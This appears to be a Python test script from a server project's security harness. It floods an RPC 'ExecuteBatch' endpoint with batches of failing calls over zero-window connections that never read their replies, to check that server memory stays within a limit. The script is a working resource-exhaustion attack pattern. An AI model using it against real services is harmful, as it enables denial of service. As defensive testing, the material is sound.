"""Batches of 4096 calls that all fail, each with an error as long as it gets, and answers that nobody takes: they are
no leases of --memory-limit.

Cost: 8 KiB to 1 MiB a batch. Found: some MiB of answer for each, as many as there are streams.
"""

import time

import wire
from attack import Attack, Target, run

NOTHING = [b""] * 4096  # two bytes each
LONG_NAMES = [wire.call("Hardshrink", [wire.tensor("é" * 120 + str(i))]) for i in range(4096)]
LONG_LISTS = [wire.call("L1Loss" + "x" * 200 + str(i)) for i in range(4096)]


def ask(calls: list[bytes]):
    message = wire.batch(calls)

    def attack(target: Target) -> None:
        connections = []
        while True:
            connection = target.connect(len(connections), window=0, refill=False)
            connections.append(connection)
            for _ in range(100):
                connection.start("ExecuteBatch", message)
                connection.poll(0.01)
            if len(connections) == 8:
                time.sleep(target.seconds)

    return attack


if __name__ == "__main__":
    run(Attack([ask(NOTHING), ask(LONG_NAMES), ask(LONG_LISTS)], rss_mib=600))
